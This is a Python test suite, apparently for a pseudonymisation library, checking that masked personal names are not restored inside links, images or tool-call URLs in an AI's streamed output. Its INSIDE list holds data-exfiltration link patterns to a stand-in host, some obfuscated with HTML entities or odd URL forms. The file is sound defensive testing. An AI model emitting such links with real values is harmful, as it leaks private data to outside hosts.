"""What an image, a link or a tool would fetch never takes a value away, whatever the cut of the stream."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from egide.detection import Finding
from egide.pseudonymisation import Keyring, Pseudonymiser, Scope, Session
from egide.pseudonymisation.addresses import AddressReader

NAME = "Solenne Garrigou"
INSIDE = [
    "![x](https://ailleurs.example/?d={})",
    "![x](<https://ailleurs.example/?d=a b {}>)",
    "![x]( https://ailleurs.example/a(b)?d={})",
    "[lien](HTTPS://ailleurs.example/{})",
    "[1]: //ailleurs.example/{}",
    "![x](//ailleurs.example/{})",
    "![x](/\\ailleurs.example/{})",
    '<img src="https://ailleurs.example/?d=deux mots {}">',
    "<img src='//ailleurs.example/?d=a\n{}'>",
    "<img src=//ailleurs.example/{}>",
    '<img src="&#104;ttps&#58;//ailleurs.example/{}">',
    '<img src="https&colon;&sol;&sol;ailleurs.example/{}">',
    "background: url(//ailleurs.example/{})",
    "Voir https://ailleurs.example/page#{}",
    "Voir https:ailleurs.example/{}",
    "Voir http:/\\ailleurs.example/{}",
    "www.ailleurs.example/{}",
    "https://{}.ailleurs.example/",
    "https://ailleurs.example/" + "a" * 6000 + "/{}",
]
OUTSIDE = [
    "![x](https://ailleurs.example/) {}",
    "[{}](https://ailleurs.example/)",
    "(voir https://ailleurs.example) {}",
    "<https://ailleurs.example>{}",
    '<a href="https://ailleurs.example">{}</a>',
    "[Écrire](mailto:{})",
    "C:\\Users\\{}\\Documents",
    "\\\\SRV01\\Clients\\{}\\contrat.docx",
    "// {} a écrit ce code",
    "12/05/2024 : {}",
    "https : {}",
    "et/ou {}",
    "www est un préfixe : {}",
    "![x](https://ailleurs.example/a.png)\n\n{}",
    "![x](https://ailleurs.example/a(b).png), {}",
]


@pytest.fixture
def session() -> Session:
    return Pseudonymiser(Keyring(b"k" * 32)).session(Scope("acme", "p", "u", "c"))


def hidden(session: Session, value: str = NAME, label: str = "PERSON") -> str:
    return session.mask(value, [Finding(0, len(value), label, 1.0, "test", "")])


@pytest.mark.parametrize("form", INSIDE)
def test_a_value_is_not_put_back_inside_an_address(session: Session, form: str) -> None:
    answer = form.format(hidden(session))
    assert session.restore(answer) == answer


@pytest.mark.parametrize("form", OUTSIDE)
def test_a_value_is_put_back_beside_an_address(session: Session, form: str) -> None:
    assert session.restore(form.format(hidden(session))) == form.format(NAME)


@pytest.mark.parametrize("form", INSIDE + OUTSIDE)
def test_a_cut_changes_nothing(session: Session, form: str) -> None:
    answer = "Bonjour. " + form.format(hidden(session)) + " Fin de " + hidden(session)
    whole = session.restore(answer)
    for cut in range(len(answer) if len(answer) < 500 else 60):
        restorer = session.restorer()
        pieces = [restorer.feed(answer[:cut]), restorer.feed(answer[cut:]), restorer.close()]
        assert "".join(pieces) == whole


@given(st.lists(st.sampled_from("](!)[<>=\"' \n:/\\.wht psa&;#x58www.https://url(]:"), max_size=60))
def test_the_state_does_not_depend_on_the_cuts(signs: list[str]) -> None:
    text = "".join(signs)
    for json_source in (False, True):
        whole, letters = AddressReader(json_source=json_source), AddressReader(json_source=json_source)
        whole.read(text)
        for letter in text:
            letters.read(letter)
        assert (whole.inside, whole.address) == (letters.inside, letters.address)


def test_an_altered_form_is_not_put_back_there_either(session: Session) -> None:
    code = hidden(session)[-7:-1]
    for form in (f"%5BPERSONNE_{code}%5D", f"personne_{code.lower()}", code, f"&lt;PERSONNE_{code}&gt;"):
        answer = f"![x](https://ailleurs.example/?d={form})"
        assert session.restore(answer) == answer


def test_a_masked_address_comes_back_whole_and_takes_nothing_more(session: Session) -> None:
    address = "https://intranet.acme.example/paie/4817"
    shown, name = hidden(session, address, "URL"), hidden(session)
    assert session.restore(f"![x]({shown})") == f"![x]({address})"
    assert session.restore(f"![x]({shown}{name})") == f"![x]({address}{name})"
    assert session.restore(f"Sur {shown} : {name}") == f"Sur {address} : {NAME}"


def test_the_caller_s_own_address_comes_back_as_it_was(session: Session) -> None:
    text = f"Ouvre https://crm.example/?nom={NAME}&x=1 puis réponds."
    start = text.index(NAME)
    masked = session.mask(text, [Finding(start, start + len(NAME), "PERSON", 1.0, "test", "")])
    other = hidden(session, "Garance Thébault")
    assert session.restore(masked) == text
    theirs = f"https://crm.example/?nom={other}"
    assert session.restore(theirs) == theirs  # another value at this place was never the caller's


def test_arguments_of_a_tool_follow_the_same_rule(session: Session) -> None:
    name = hidden(session)
    inside = f'{{"url": "https://ailleurs.example/?d={name}"}}'
    assert session.restore(inside, mode="json") == inside
    escaped = f'{{"url": "https:\\/\\/ailleurs.example\\/{name}"}}'
    assert session.restore(escaped, mode="json") == escaped
    beside = f'{{"texte": "https://ailleurs.example\\n{name}", "nom": "{name}"}}'
    assert session.restore(beside, mode="json") == beside.replace(name, NAME)
